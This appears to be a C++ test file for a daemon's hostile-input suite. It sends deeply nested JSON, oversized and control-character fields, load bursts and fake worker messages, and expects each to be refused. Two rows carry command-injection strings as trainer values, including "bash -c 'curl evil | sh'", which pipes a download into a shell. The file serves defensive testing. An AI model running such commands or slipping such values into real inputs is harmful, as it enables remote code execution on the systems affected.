// The hostile-input suite (issue 11, docs/reliability.md § Hostile inputs): a table of hostile
// requests, worker messages, trainer output and MCP calls sent over the real protocols to a real
// xvd (a real xv-worker and `xvctl mcp` where the row needs them), each judged by HostileFixture::
// RunRow (tests/hostile/hostile_fixture.h): the status code, the field named at the start of the
// message, xvd and the worker still serving (a Status RPC answers; the processes are alive), the
// database consistent (`PRAGMA integrity_check`) and, for a refused request, unchanged (row counts
// of every table). Every row ends refused / accepted / crash / hang; the binary ends with
//   hostile inputs: N tried, N refused, 0 accepted, 0 crashes, 0 hangs
// and fails unless accepted, crashes and hangs are 0. Groups, one daemon each:
//  - ClientApiRows: gRPC clients (the generated stubs) on the unix socket: deep JSON, over-long
//    and control-character names and fields, bad enums, negative and huge numbers, huge lists.
//  - LoadRows: a 10,240-row submit with a Status that must answer meanwhile, many Watch streams
//    (RESOURCE_EXHAUSTED beyond the cap), a burst of submits (RESOURCE_EXHAUSTED past the rate).
//  - WorkerSessionRows: a fake worker on the Workers Session stream: deep and non-string event
//    fields, implausible results (the run ends `invalid` naming the field, never kept), a late
//    Finished after success, over-long strings, max_concurrent 1000, hundreds of made-up names.
//  - TrainerOutputRows: a real xv-worker running tests/hostile/odd_trainer.sh as `command`
//    trainers (invalid UTF-8 and long lines on stderr, a 3 MB deeply nested event line,
//    implausible summaries, control characters), then what xvctl prints of it (CLI rows).
//  - McpRows: `xvctl mcp` over pipes: files that are not recipes, deep and huge arguments.
// HarnessSelfCheck proves the judge itself: a SIGSEGV'd daemon is a crash, a SIGSTOPped one a
// hang (its rows go to a scratch ledger, not the summary).
#include <fcntl.h>
#include <gtest/gtest.h>
#include <signal.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cmath>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <map>
#include <mutex>
#include <nlohmann/json.hpp>
#include <set>
#include <thread>

#include "common/untrusted_text.h"
#include "tests/e2e/database_file.h"
#include "tests/hostile/hostile_fixture.h"

namespace xv::hostile {
namespace {

using grpc::StatusCode;
using nlohmann::json;

// Flags the load rows pass to xvd when `xvd --help` lists them (the names issue 11's fixes are
// expected to use; a daemon without them is run with its defaults).
constexpr const char* kWatchCapFlag = "--max-watch-streams";
constexpr int kWatchCapForTest = 16;
// Per-caller token bucket on state-changing calls: refill per second, burst.
constexpr const char* kRateFlag = "--rate-limit";
constexpr const char* kRateBurstFlag = "--rate-burst";
constexpr int kRateForTest = 5;
constexpr int kRateBurstForTest = 20;
// A worker's max_concurrent is capped by the daemon at no more than this (issue 11: "capped by
// the daemon"; 1000 took the whole queue).
constexpr int kMaxConcurrentCapAtMost = 64;
// What a message about one candidate's overrides starts with: its proto path, or the daemon's
// "candidate N (overrides): " label for errors about what the overrides mean.
const std::string kFirstCandidate = "candidates[0]|candidate 1 (";
// Limits of common/untrusted_text.h the rows go just past.
constexpr size_t kNameLimit = kMaxNameBytes;
constexpr size_t kDetailLimit = kMaxDetailBytes;
constexpr size_t kKindLimit = kMaxKindBytes;

const std::string kTerminalEscapes = "\x1b]0;pwned\x07\x1b[2J\r\n";  // retitle, clear, CR, LF

std::string Repeat(const std::string& s, size_t n) {
  std::string out;
  out.reserve(s.size() * n);
  for (size_t i = 0; i < n; ++i) out += s;
  return out;
}

// The longest run of '[' in `s` (a dump of a deep array shows as one).
size_t LongestBracketRun(const std::string& s) {
  size_t best = 0, run = 0;
  for (char c : s) {
    run = c == '[' ? run + 1 : 0;
    best = std::max(best, run);
  }
  return best;
}

// Text stored from a hostile value must be bounded, valid UTF-8 and not a dump of a deep value.
void ExpectBoundedText(RowFindings* f, const std::string& what, const std::string& text,
                       size_t max_bytes) {
  if (text.size() > max_bytes) {
    f->Wrong(what + " is " + std::to_string(text.size()) + " bytes (limit " +
             std::to_string(max_bytes) + ")");
  }
  if (!IsValidUtf8(text)) f->Wrong(what + " is not valid UTF-8");
  if (LongestBracketRun(text) > 64) {
    f->Wrong(what + " holds a dump of the nested value (" +
             std::to_string(LongestBracketRun(text)) + " '[' in a row)");
  }
}

xv::v1::SubmitRequest BaseSubmit(const std::string& recipe, const std::string& campaign) {
  xv::v1::SubmitRequest req;
  req.set_recipe_yaml(recipe);
  req.set_campaign(campaign);
  return req;
}

xv::v1::Candidate* AddCandidate(xv::v1::SubmitRequest* req, const std::string& key,
                                const std::string& value, const std::string& name = "") {
  xv::v1::Candidate* c = req->add_candidates();
  if (!name.empty()) c->set_name(name);
  xv::v1::Override* o = c->add_overrides();
  o->set_key(key);
  o->set_value(value);
  return c;
}

// ---- Client API rows ---------------------------------------------------------------------------

// One hostile client request: the call (with its deadline set on ctx), the code it must get and
// the field its message must start with.
struct ClientRow {
  std::string name;
  std::function<grpc::Status(grpc::ClientContext*)> call;
  StatusCode want;
  std::string field;
};

class HostileInputsTest : public HostileFixture {};

TEST_F(HostileInputsTest, ClientApiRows) {
  group_ = "client";
  StartDaemon({"--log-level", "warn"});
  const std::string recipe = base_recipe();
  // The control: well-formed requests are served, so every refusal below is about its input.
  {
    grpc::ClientContext ctx;
    Deadline(&ctx, kCallSeconds);
    xv::v1::CreateCampaignRequest req;
    req.set_name("base");
    req.set_base_recipe_yaml(recipe);
    xv::v1::Campaign c;
    grpc::Status s = campaigns()->CreateCampaign(&ctx, req, &c);
    ASSERT_TRUE(s.ok()) << s.error_message() << Logs();
    grpc::ClientContext sctx;
    Deadline(&sctx, kCallSeconds);
    xv::v1::SubmitRequest sub;
    sub.set_campaign("base");
    AddCandidate(&sub, "matrix_lr", "0.02", std::string(kNameLimit, 'n'));  // a name at the limit
    xv::v1::SubmitResponse resp;
    s = experiments()->Submit(&sctx, sub, &resp);
    ASSERT_TRUE(s.ok()) << s.error_message() << Logs();
  }

  int serial = 0;  // a fresh campaign name per row, so that one wrongly stored changes no other
  auto create = [&](std::function<void(xv::v1::CreateCampaignRequest*)> edit) {
    return [this, recipe, edit, &serial](grpc::ClientContext* ctx) {
      xv::v1::CreateCampaignRequest req;
      req.set_name("hostile-" + std::to_string(++serial));
      req.set_base_recipe_yaml(recipe);
      edit(&req);
      xv::v1::Campaign c;
      return campaigns()->CreateCampaign(ctx, req, &c);
    };
  };
  auto submit = [&](std::function<void(xv::v1::SubmitRequest*)> edit) {
    return [this, recipe, edit](grpc::ClientContext* ctx) {
      xv::v1::SubmitRequest req = BaseSubmit(recipe, "base");
      edit(&req);
      xv::v1::SubmitResponse resp;
      return experiments()->Submit(ctx, req, &resp);
    };
  };
  auto list = [&](std::function<void(xv::v1::ListExperimentsRequest*)> edit) {
    return [this, edit](grpc::ClientContext* ctx) {
      xv::v1::ListExperimentsRequest req;
      edit(&req);
      xv::v1::ListExperimentsResponse resp;
      return experiments()->ListExperiments(ctx, req, &resp);
    };
  };
  auto watch = [&](std::function<void(xv::v1::WatchRequest*)> edit) {
    return [this, edit](grpc::ClientContext* ctx) {
      xv::v1::WatchRequest req;
      edit(&req);
      auto reader = experiments()->Watch(ctx, req);
      xv::v1::WatchEvent ev;
      while (reader->Read(&ev)) {
      }
      return reader->Finish();
    };
  };
  const std::string deep = NestedJsonArray(100000);
  const std::string one_mib(1 << 20, 'n');
  const std::string big(100 * 1024, 'k');

  const std::vector<ClientRow> rows = {
      // JSON nested 100,000 deep (issue 11 #1: SIGSEGV from a recursive dump()).
      {"CreateCampaign budget_json nested 100,000 deep under a key",
       create([&](auto* r) { r->set_budget_json(R"({"time_budget_s": )" + deep + "}"); }),
       StatusCode::INVALID_ARGUMENT, "budget_json"},
      {"CreateCampaign budget_json nested 100,000 deep at the top",
       create([&](auto* r) { r->set_budget_json(deep); }), StatusCode::INVALID_ARGUMENT,
       "budget_json"},
      {"CreateCampaign budget_json nested 1,000 deep (2 KB)", create([&](auto* r) {
         r->set_budget_json(R"({"time_budget_s": )" + NestedJsonArray(1000) + "}");
       }),
       StatusCode::INVALID_ARGUMENT, "budget_json"},
      {"CreateCampaign policy (JSON) nested 30,000 deep (60 KB)",
       create([&](auto* r) { r->set_policy(R"({"mode": )" + NestedJsonArray(30000) + "}"); }),
       StatusCode::INVALID_ARGUMENT, "policy"},
      {"CreateCampaign policy (JSON) nested 100,000 deep",
       create([&](auto* r) { r->set_policy(R"({"mode": )" + deep + "}"); }),
       StatusCode::INVALID_ARGUMENT, "policy"},
      {"CreateCampaign base recipe YAML nested 20,000 deep", create([&](auto* r) {
         r->set_base_recipe_yaml("depth: " + std::string(20000, '[') + std::string(20000, ']'));
       }),
       StatusCode::INVALID_ARGUMENT, "recipe"},
      // Over-long and control-character text (issue 11 #5, #7).
      {"CreateCampaign name of 1 MiB", create([&](auto* r) { r->set_name(one_mib); }),
       StatusCode::INVALID_ARGUMENT, "name"},
      {"CreateCampaign name holding ESC, BEL, CR, LF",
       create([&](auto* r) { r->set_name("camp" + kTerminalEscapes); }),
       StatusCode::INVALID_ARGUMENT, "name"},
      {"CreateCampaign empty name", create([&](auto* r) { r->set_name(""); }),
       StatusCode::INVALID_ARGUMENT, "name"},
      {"CreateCampaign recipe_name of 100 KiB", create([&](auto* r) { r->set_recipe_name(big); }),
       StatusCode::INVALID_ARGUMENT, "recipe_name"},
      {"CreateCampaign device_filter of 100 KiB",
       create([&](auto* r) { r->set_device_filter(big); }), StatusCode::INVALID_ARGUMENT,
       "device_filter"},
      {"CreateCampaign trainer as a command line",
       create([&](auto* r) { r->set_trainer("/bin/sh -c 'id > /tmp/pwned'"); }),
       StatusCode::INVALID_ARGUMENT, "trainer"},
      {"CreateCampaign trainer of 100 KiB", create([&](auto* r) { r->set_trainer(big); }),
       StatusCode::INVALID_ARGUMENT, "trainer"},
      // Numbers out of range.
      {"CreateCampaign max_attempts -1", create([&](auto* r) { r->set_max_attempts(-1); }),
       StatusCode::INVALID_ARGUMENT, "max_attempts"},
      {"CreateCampaign max_attempts 2147483647",
       create([&](auto* r) { r->set_max_attempts(2147483647); }), StatusCode::INVALID_ARGUMENT,
       "max_attempts"},
      {"CreateCampaign budget time_budget_s 1e999 (infinite)",
       create([&](auto* r) { r->set_budget_json(R"({"time_budget_s": 1e999})"); }),
       StatusCode::INVALID_ARGUMENT, "budget"},
      {"CreateCampaign budget time_budget_s -5",
       create([&](auto* r) { r->set_budget_json(R"({"time_budget_s": -5})"); }),
       StatusCode::INVALID_ARGUMENT, "budget"},
      {"CreateCampaign budget max_concurrent 1e300",
       create([&](auto* r) { r->set_budget_json(R"({"max_concurrent": 1e300})"); }),
       StatusCode::INVALID_ARGUMENT, "budget"},
      {"CreateCampaign budget_json of 1 MiB (a string value)",
       create([&](auto* r) { r->set_budget_json(R"({"time_budget_s": ")" + one_mib + "\"}"); }),
       StatusCode::INVALID_ARGUMENT, "budget"},
      // Submit: names (issue 11 #5: 1 MiB x 64 replicates grew the database by 134 MB).
      {"Submit candidate name of 1 MiB x 64 replicates", submit([&](auto* r) {
         AddCandidate(r, "matrix_lr", "0.03", one_mib);
         r->set_replicates(64);
       }),
       StatusCode::INVALID_ARGUMENT, "candidates[0].name"},
      {"Submit candidate name one byte over the limit", submit([&](auto* r) {
         AddCandidate(r, "matrix_lr", "0.03", std::string(kNameLimit + 1, 'n'));
       }),
       StatusCode::INVALID_ARGUMENT, "candidates[0].name"},
      {"Submit candidate name holding ESC, BEL, CR, LF",
       submit([&](auto* r) { AddCandidate(r, "matrix_lr", "0.03", "lr" + kTerminalEscapes); }),
       StatusCode::INVALID_ARGUMENT, "candidates[0].name"},
      {"Submit second candidate's name holding a C1 CSI (U+009B)", submit([&](auto* r) {
         AddCandidate(r, "matrix_lr", "0.03", "fine");
         AddCandidate(r, "matrix_lr", "0.05",
                      "c1\xc2\x9b"
                      "31mred");
       }),
       StatusCode::INVALID_ARGUMENT, "candidates[1].name"},
      {"Submit recipe_name of 100 KiB", submit([&](auto* r) { r->set_recipe_name(big); }),
       StatusCode::INVALID_ARGUMENT, "recipe_name"},
      {"Submit campaign of 1 MiB", submit([&](auto* r) { r->set_campaign(one_mib); }),
       StatusCode::INVALID_ARGUMENT, "campaign"},
      {"Submit campaign holding ESC, BEL",
       submit([&](auto* r) { r->set_campaign("c" + kTerminalEscapes); }),
       StatusCode::INVALID_ARGUMENT, "campaign"},
      {"Submit submitter of 1 MiB", submit([&](auto* r) { r->set_submitter(one_mib); }),
       StatusCode::INVALID_ARGUMENT, "submitter"},
      {"Submit trainer as a command line",
       submit([&](auto* r) { r->set_trainer("bash -c 'curl evil | sh'"); }),
       StatusCode::INVALID_ARGUMENT, "trainer"},
      {"Submit kind of 100 KiB", submit([&](auto* r) { r->set_kind(big); }),
       StatusCode::INVALID_ARGUMENT, "kind"},
      {"Submit replicates -1", submit([&](auto* r) { r->set_replicates(-1); }),
       StatusCode::INVALID_ARGUMENT, "replicates"},
      {"Submit replicates 2147483647", submit([&](auto* r) { r->set_replicates(2147483647); }),
       StatusCode::INVALID_ARGUMENT, "replicates"},
      {"Submit 257 candidates", submit([&](auto* r) {
         for (int i = 0; i < 257; ++i)
           AddCandidate(r, "matrix_lr", std::to_string(0.001 * (i + 1)));
       }),
       StatusCode::INVALID_ARGUMENT, "candidates"},
      {"Submit one candidate with 100,000 overrides", submit([&](auto* r) {
         xv::v1::Candidate* c = r->add_candidates();
         for (int i = 0; i < 100000; ++i) {
           xv::v1::Override* o = c->add_overrides();
           o->set_key("matrix_lr");
           o->set_value("0.03");
         }
       }),
       StatusCode::INVALID_ARGUMENT, kFirstCandidate},
      {"Submit override key of 100 KiB", submit([&](auto* r) { AddCandidate(r, big, "1"); }),
       StatusCode::INVALID_ARGUMENT, kFirstCandidate},
      {"Submit override value of 1 MiB",
       submit([&](auto* r) { AddCandidate(r, "matrix_lr", one_mib); }),
       StatusCode::INVALID_ARGUMENT, kFirstCandidate},
      {"Submit override value nested 100,000 deep",
       submit([&](auto* r) { AddCandidate(r, "adam_betas", deep); }), StatusCode::INVALID_ARGUMENT,
       kFirstCandidate},
      {"Submit override with an empty key", submit([&](auto* r) { AddCandidate(r, "", "1"); }),
       StatusCode::INVALID_ARGUMENT, kFirstCandidate},
      {"Submit override seed 1e300", submit([&](auto* r) { AddCandidate(r, "seed", "1e300"); }),
       StatusCode::INVALID_ARGUMENT, kFirstCandidate},
      {"Submit override time_budget_s -1",
       submit([&](auto* r) { AddCandidate(r, "time_budget_s", "-1"); }),
       StatusCode::INVALID_ARGUMENT, kFirstCandidate},
      {"Submit recipe YAML nested 20,000 deep", submit([&](auto* r) {
         r->set_recipe_yaml("depth: " + std::string(20000, '[') + std::string(20000, ']'));
       }),
       StatusCode::INVALID_ARGUMENT, "recipe"},
      {"Submit recipe YAML of 1 MiB", submit([&](auto* r) { r->set_recipe_yaml(one_mib); }),
       StatusCode::INVALID_ARGUMENT, "recipe_yaml"},
      {"Submit to an unknown campaign without a recipe", submit([&](auto* r) {
         r->clear_recipe_yaml();
         r->set_campaign("no-such-campaign");
         AddCandidate(r, "matrix_lr", "0.03");
       }),
       StatusCode::INVALID_ARGUMENT, "recipe_yaml"},
      // Enums and filters (issue 11 #11: `state: "pwned"` answered an empty list).
      {"ListExperiments state \"pwned\"", list([&](auto* r) { r->set_state("pwned"); }),
       StatusCode::INVALID_ARGUMENT, "state"},
      {"ListExperiments decision \"pwned\"", list([&](auto* r) { r->set_decision("pwned"); }),
       StatusCode::INVALID_ARGUMENT, "decision"},
      {"ListExperiments order_by of 100 KiB", list([&](auto* r) { r->set_order_by(big); }),
       StatusCode::INVALID_ARGUMENT, "order_by"},
      {"ListExperiments offset -1", list([&](auto* r) { r->set_offset(-1); }),
       StatusCode::INVALID_ARGUMENT, "offset"},
      {"Watch kinds holding 1 MiB", watch([&](auto* r) { r->add_kinds(one_mib); }),
       StatusCode::INVALID_ARGUMENT, "kinds"},
      {"Watch since -1", watch([&](auto* r) { r->set_since(-1); }), StatusCode::INVALID_ARGUMENT,
       "since"},
  };
  for (const ClientRow& row : rows) {
    RunRow(row.name, [&](RowFindings* f) {
      grpc::ClientContext ctx;
      Deadline(&ctx, kCallSeconds);
      f->ExpectRefusal(row.name, row.call(&ctx), row.want, row.field);
    });
  }
}

// ---- Load rows ---------------------------------------------------------------------------------

bool DaemonHelpLists(const std::string& flag) {
  e2e::CommandResult help = e2e::RunCommand({e2e::BinaryPath("xvd"), "--help"}, 20);
  return (help.out + help.err).find(flag) != std::string::npos;
}

TEST_F(HostileInputsTest, LoadRows) {
  group_ = "load";
  const bool watch_cap_flag = DaemonHelpLists(kWatchCapFlag);
  const bool rate_flags = DaemonHelpLists(kRateFlag) && DaemonHelpLists(kRateBurstFlag);
  std::vector<std::string> args = {"--log-level", "warn"};
  if (watch_cap_flag) {
    args.insert(args.end(), {kWatchCapFlag, std::to_string(kWatchCapForTest)});
  }
  if (rate_flags) {
    args.insert(args.end(), {kRateFlag, std::to_string(kRateForTest), kRateBurstFlag,
                             std::to_string(kRateBurstForTest)});
  }
  std::string shown;
  for (size_t i = 2; i < args.size(); ++i) shown += " " + args[i];
  std::printf("[hostile] load rows: xvd%s\n",
              shown.empty() ? " (no watch-cap or rate flags listed: its defaults)" : shown.c_str());
  StartDaemon(args);
  const std::string recipe = base_recipe();

  // A submit of `candidates` x `replicates` rows while a Status is asked every 250 ms (issue 11
  // #6: 10,240 rows in one write transaction held the store for 27 s; a concurrent Status waited
  // 24 s). Either it is served in bounded transactions (every Status answers within 5 s, every
  // row stored) or refused naming the field (nothing stored).
  auto big_submit = [&](int candidates, int replicates, RowFindings* f) {
    const int want = candidates * replicates;
    const int64_t experiments_before =
        DatabaseSnapshot::Take(sb_.database_path()).rows["experiments"];
    std::atomic<bool> done{false};
    grpc::Status submit_status;
    xv::v1::SubmitResponse resp;
    std::thread submitter([&] {
      xv::v1::SubmitRequest req = BaseSubmit(recipe, "big-" + std::to_string(want));
      for (int i = 0; i < candidates; ++i) {
        AddCandidate(&req, "matrix_lr", std::to_string(0.0001 * (i + 1)));
      }
      req.set_replicates(replicates);
      grpc::ClientContext ctx;
      Deadline(&ctx, 150);
      submit_status = experiments()->Submit(&ctx, req, &resp);
      done = true;
    });
    double slowest = 0;
    int probes = 0;
    std::this_thread::sleep_for(std::chrono::milliseconds(300));
    while (!done) {
      const auto t0 = std::chrono::steady_clock::now();
      grpc::ClientContext ctx;
      Deadline(&ctx, 5.0);
      xv::v1::StatusResponse st;
      grpc::Status s = experiments()->Status(&ctx, xv::v1::StatusRequest(), &st);
      slowest = std::max(
          slowest, std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count());
      ++probes;
      if (s.error_code() == StatusCode::DEADLINE_EXCEEDED) {
        f->Hang("a Status during the submit got no answer within 5 s");
        break;
      }
      if (!s.ok()) f->Wrong("a Status during the submit: " + CodeName(s.error_code()));
      std::this_thread::sleep_for(std::chrono::milliseconds(250));
    }
    submitter.join();
    const int64_t stored =
        DatabaseSnapshot::Take(sb_.database_path()).rows["experiments"] - experiments_before;
    std::printf(
        "[hostile]          submit of %d runs: %s, %ld stored, %d Status probes "
        "meanwhile, slowest %.2f s\n",
        want, submit_status.ok() ? "OK" : CodeName(submit_status.error_code()).c_str(),
        static_cast<long>(stored), probes, slowest);
    if (submit_status.ok()) {
      if (resp.experiment_ids_size() != want || stored != want) {
        f->Wrong("submit answered OK with " + std::to_string(resp.experiment_ids_size()) +
                 " ids, " + std::to_string(stored) + " rows stored (want " + std::to_string(want) +
                 " both)");
      }
    } else if (submit_status.error_code() == StatusCode::DEADLINE_EXCEEDED) {
      f->Hang("the submit itself got no answer within 150 s");
    } else {
      f->ExpectRefusal("submit", submit_status, StatusCode::INVALID_ARGUMENT, "candidates");
      if (stored != 0) f->Wrong("refused, yet " + std::to_string(stored) + " rows stored");
    }
  };
  RunRow(
      "Submit of 256 candidates x 40 replicates while Status must answer within 5 s",
      [&](RowFindings* f) { big_submit(256, 40, f); }, StoreCheck::kConsistent);
  RunRow(
      "Submit of 256 candidates x 16 replicates while Status must answer within 5 s",
      [&](RowFindings* f) { big_submit(256, 16, f); }, StoreCheck::kConsistent);

  // Many idle Watch streams (issue 11 #11: 3,000 streams held 3,014 threads and slowed Submit from
  // 0.05 to 5.4 s): past the cap a stream is refused with RESOURCE_EXHAUSTED; while the others
  // are held, Status and a Submit answer; after they close, a new Watch is served again.
  RunRow(
      "Watch streams past the cap",
      [&](RowFindings* f) {
        const int n = watch_cap_flag ? kWatchCapForTest + 24 : 300;
        std::vector<std::shared_ptr<grpc::Channel>> channels;
        for (int i = 0; i < (n + 49) / 50; ++i)
          channels.push_back(DaemonChannel(sb_.socket_path()));
        std::vector<std::unique_ptr<grpc::ClientContext>> contexts(n);
        std::vector<grpc::Status> ends(n);
        std::vector<std::atomic<bool>> ended(n);
        std::vector<std::thread> readers;
        for (int i = 0; i < n; ++i) {
          contexts[i] = std::make_unique<grpc::ClientContext>();
          Deadline(contexts[i].get(), 60);
          ended[i] = false;
          readers.emplace_back([&, i] {
            auto stub = xv::v1::Experiments::NewStub(channels[i / 50]);
            auto reader = stub->Watch(contexts[i].get(), xv::v1::WatchRequest());
            xv::v1::WatchEvent ev;
            while (reader->Read(&ev)) {
            }
            ends[i] = reader->Finish();
            ended[i] = true;
          });
        }
        // Refusals come at once; give the rest time to be served (or refused).
        std::this_thread::sleep_for(std::chrono::seconds(3));
        int refused = 0, other_end = 0;
        std::string refusal_message, other_message;
        for (int i = 0; i < n; ++i) {
          if (!ended[i]) continue;
          if (ends[i].error_code() == StatusCode::RESOURCE_EXHAUSTED) {
            ++refused;
            refusal_message = ends[i].error_message();
          } else {
            ++other_end;
            other_message = CodeName(ends[i].error_code()) + " " + ends[i].error_message();
          }
        }
        std::printf("[hostile]          %d Watch streams: %d refused, %d held\n", n, refused,
                    n - refused - other_end);
        if (refused == 0) {
          f->Wrong(std::to_string(n) + " Watch streams held, none refused with RESOURCE_EXHAUSTED");
        } else if (watch_cap_flag && n - refused > kWatchCapForTest) {
          f->Wrong(std::to_string(n - refused) + " streams held with a cap of " +
                   std::to_string(kWatchCapForTest));
        }
        if (refused > 0 && refusal_message.find("watch") == std::string::npos &&
            refusal_message.find("Watch") == std::string::npos) {
          f->Wrong("the refusal does not name the watch cap: '" + refusal_message.substr(0, 200) +
                   "'");
        }
        if (other_end > 0) f->Wrong(std::to_string(other_end) + " streams ended: " + other_message);
        // Served meanwhile.
        {
          grpc::ClientContext ctx;
          Deadline(&ctx, 5.0);
          xv::v1::SubmitRequest req = BaseSubmit(recipe, "while-watched");
          xv::v1::SubmitResponse resp;
          f->ExpectOk("a Submit while the streams are held (5 s deadline)",
                      experiments()->Submit(&ctx, req, &resp));
        }
        for (auto& c : contexts) c->TryCancel();
        for (auto& t : readers) t.join();
        // The cap frees: a new stream is served (it has not ended after 1 s). The daemon learns
        // of a client's cancel asynchronously (the stream's reactor is done after the cancel
        // reaches it), so a refusal within the first 3 s after the cancels is asked again.
        grpc::Status again;
        const auto cancelled_at = std::chrono::steady_clock::now();
        do {
          grpc::ClientContext ctx;
          Deadline(&ctx, 1.0);
          auto reader = experiments()->Watch(&ctx, xv::v1::WatchRequest());
          xv::v1::WatchEvent ev;
          while (reader->Read(&ev)) {
          }
          again = reader->Finish();
          if (again.error_code() != StatusCode::RESOURCE_EXHAUSTED) break;
          std::this_thread::sleep_for(std::chrono::milliseconds(100));
        } while (std::chrono::steady_clock::now() - cancelled_at < std::chrono::seconds(3));
        if (again.error_code() != StatusCode::DEADLINE_EXCEEDED) {
          f->Wrong("a Watch after the others closed ended with " + CodeName(again.error_code()) +
                   " " + again.error_message().substr(0, 200) + " (want it served)");
        }
      },
      StoreCheck::kConsistent);

  // Hundreds of submits in a burst from one caller (issue 11 #6: 300 in 2.6 s were all
  // accepted): past the rate, RESOURCE_EXHAUSTED, and a refused submit stores nothing.
  RunRow(
      "300 submits in a burst",
      [&](RowFindings* f) {
        const int64_t rounds_before = DatabaseSnapshot::Take(sb_.database_path()).rows["rounds"];
        std::atomic<int> next{0}, ok{0}, limited{0}, hung{0};
        std::mutex mu;
        std::string other, limit_message;
        std::vector<std::thread> threads;
        for (int t = 0; t < 4; ++t) {
          threads.emplace_back([&] {
            for (int i = next++; i < 300; i = next++) {
              xv::v1::SubmitRequest req = BaseSubmit(recipe, "burst");
              AddCandidate(&req, "seed", std::to_string(5000 + i));
              grpc::ClientContext ctx;
              Deadline(&ctx, kCallSeconds);
              xv::v1::SubmitResponse resp;
              grpc::Status s = experiments()->Submit(&ctx, req, &resp);
              std::lock_guard<std::mutex> lock(mu);
              if (s.ok()) {
                ++ok;
              } else if (s.error_code() == StatusCode::RESOURCE_EXHAUSTED) {
                ++limited;
                limit_message = s.error_message();
              } else if (s.error_code() == StatusCode::DEADLINE_EXCEEDED) {
                ++hung;
              } else {
                other = CodeName(s.error_code()) + " " + s.error_message().substr(0, 200);
              }
            }
          });
        }
        for (auto& t : threads) t.join();
        std::printf("[hostile]          burst: %d accepted, %d refused RESOURCE_EXHAUSTED\n",
                    ok.load(), limited.load());
        if (hung > 0) f->Hang(std::to_string(hung.load()) + " submits of the burst timed out");
        if (limited == 0) f->Wrong("all " + std::to_string(ok.load()) + " submits accepted");
        if (limited > 0 && limit_message.find("rate") == std::string::npos) {
          f->Wrong("the refusal does not name the rate limit: '" + limit_message.substr(0, 200) +
                   "'");
        }
        if (!other.empty()) f->Wrong("a submit of the burst: " + other);
        const int64_t rounds =
            DatabaseSnapshot::Take(sb_.database_path()).rows["rounds"] - rounds_before;
        if (rounds != ok) {
          f->Wrong(std::to_string(rounds) + " rounds stored for " + std::to_string(ok.load()) +
                   " accepted submits");
        }
      },
      StoreCheck::kConsistent);
}

// ---- Worker session rows -----------------------------------------------------------------------

// The worker-session group: a campaign whose noise-band policy would keep a believed val_bpb of
// 0.0 (2 head controls at 2.0), and fake workers on the Workers Session stream.
class WorkerSessionTest : public HostileFixture {
 protected:
  static constexpr const char* kTrainer = "hostile-fake";

  void OpenWorker() {
    worker_ = std::make_unique<WorkerSessionClient>(channel(), 600);
    ASSERT_TRUE(worker_->Register(WorkerSessionClient::MakeRegister("fake-1", {kTrainer}), 10))
        << Logs();
  }

  // Submits one candidate `matrix_lr=<value>` to the campaign; its id, or 0 (in *f).
  int64_t SubmitCandidate(const std::string& lr, RowFindings* f) {
    xv::v1::SubmitRequest req;
    req.set_campaign("ws");
    AddCandidate(&req, "matrix_lr", lr);
    grpc::ClientContext ctx;
    Deadline(&ctx, kCallSeconds);
    xv::v1::SubmitResponse resp;
    grpc::Status s = experiments()->Submit(&ctx, req, &resp);
    f->ExpectOk("submit", s);
    if (!s.ok()) return 0;
    for (int64_t id : resp.experiment_ids()) {
      xv::v1::Experiment e;
      grpc::ClientContext g;
      Deadline(&g, 5);
      xv::v1::GetExperimentRequest gr;
      gr.set_id(id);
      if (experiments()->GetExperiment(&g, gr, &e).ok() && e.role() != "control") return id;
    }
    f->Wrong("the submit returned no candidate");
    return 0;
  }

  xv::v1::WorkerMessage Event(const xv::v1::ExperimentSpec& spec, int64_t seq,
                              const std::string& type, const std::string& json_text) {
    xv::v1::WorkerMessage m;
    auto* ev = m.mutable_event();
    ev->set_experiment_id(spec.experiment_id());
    ev->set_attempt(spec.attempt());
    ev->set_seq(seq);
    ev->set_type(type);
    ev->set_json(json_text);
    ev->set_unix_ms(1);
    return m;
  }

  xv::v1::WorkerMessage Finished(const xv::v1::ExperimentSpec& spec, const std::string& state,
                                 int64_t last_seq) {
    xv::v1::WorkerMessage m;
    auto* fin = m.mutable_finished();
    fin->set_experiment_id(spec.experiment_id());
    fin->set_attempt(spec.attempt());
    fin->set_state(state);
    fin->set_exit_code(state == "succeeded" ? 0 : 1);
    if (state != "succeeded") fin->set_failure_kind("crashed");
    fin->set_last_seq(last_seq);
    fin->set_wall_seconds(1);
    return m;
  }

  static std::string Summary(const std::string& val_bpb, const std::string& extra = "") {
    return R"({"type":"summary","t":1.0,"val_bpb":)" + val_bpb +
           R"(,"training_seconds":1,"total_seconds":2,"num_steps":30,"total_tokens":61440,)"
           R"("num_params":100,"tok_per_sec":2000.0,"mfu_percent":null,"peak_flops":null,)"
           R"("metric_version":"1")" +
           extra + "}";
  }

  // Plays the worker until experiment `target` is finished: every other assignment (the head
  // controls) succeeds with val_bpb 2.0; `target` gets `play` (events and a Finished, sent by
  // it). Waits for the daemon's acknowledgement of target's Finished; a missing Assign or
  // acknowledgement is a hang (the session is reopened for the next row).
  void PlayUntilFinished(int64_t target, RowFindings* f,
                         const std::function<void(const xv::v1::ExperimentSpec&)>& play) {
    for (int guard = 0; guard < 8; ++guard) {
      xv::v1::DaemonMessage m;
      if (!worker_->WaitFor([](const auto& d) { return d.has_assign(); }, 15, &m)) {
        f->Hang(worker_->ended() ? "the worker session ended before the assignment"
                                 : "no assignment within 15 s");
        ReopenWorker();
        return;
      }
      const xv::v1::ExperimentSpec spec = m.assign().spec();
      if (spec.experiment_id() == target) {
        play(spec);
      } else {
        worker_->Send(Event(spec, 1, "summary", Summary("2.0")));
        worker_->Send(Finished(spec, "succeeded", 1));
      }
      const int64_t id = spec.experiment_id();
      if (!worker_->WaitFor(
              [id](const auto& d) {
                return d.has_ack() && d.ack().finished() && d.ack().experiment_id() == id;
              },
              15, &m)) {
        f->Hang(worker_->ended() ? "the worker session ended before the Finished was acknowledged"
                                 : "no acknowledgement of the Finished within 15 s");
        ReopenWorker();
        return;
      }
      if (id == target) {
        PlayControls(1.0);
        return;
      }
    }
    f->Wrong("experiment " + std::to_string(target) + " was never assigned");
  }

  // Plays every assignment that arrives within `quiet_s` of the last as a head control (val_bpb
  // 2.0), so that the round of the row's run is decided within the row.
  void PlayControls(double quiet_s) {
    xv::v1::DaemonMessage m;
    while (worker_->WaitFor([](const auto& d) { return d.has_assign(); }, quiet_s, &m)) {
      const xv::v1::ExperimentSpec spec = m.assign().spec();
